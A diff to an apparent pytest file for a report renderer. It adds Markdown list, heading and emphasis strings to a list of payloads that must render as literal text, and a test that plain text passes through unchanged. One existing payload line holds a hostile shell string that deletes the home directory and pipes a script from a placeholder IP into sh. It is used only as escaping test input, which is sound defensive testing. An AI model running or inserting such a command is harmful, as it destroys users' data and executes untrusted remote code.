@@ -27,6 +27,12 @@ PAYLOADS = [
     "$\\frac{$ and $x^2$",
     "**bold** _em_ `code` ~~s~~ # h | cell | &amp; &lt;b&gt; &#60;",
     "$(rm -rf ~); `curl http://203.0.113.7 | sh`",
+    "1. a list",
+    "- an item",
+    "+ an item",
+    "=== a heading line",
+    "12) another list",
+    "a_b _c_ __d__",
 ]
 """Text that is markup in Markdown or HTML: each must render as itself."""
 
@@ -73,6 +79,11 @@ def test_a_table_of_payloads_keeps_its_cells_and_shows_them_as_text(payload):
     assert [rendered_text(c) for c in cells] == ["row", " ".join(payload.split()), "a"] + [
         " ".join(payload.split())
     ]
+
+
+@pytest.mark.parametrize("text", ["Table I.", "hf-probe/tiny", "trace_tutor (seed=1)", "a - b"])
+def test_report_text_leaves_what_is_no_markup_as_it_is(text):
+    assert report_text(text) == text
 
 
 def test_control_characters_show_in_the_report_and_never_reach_it_raw():
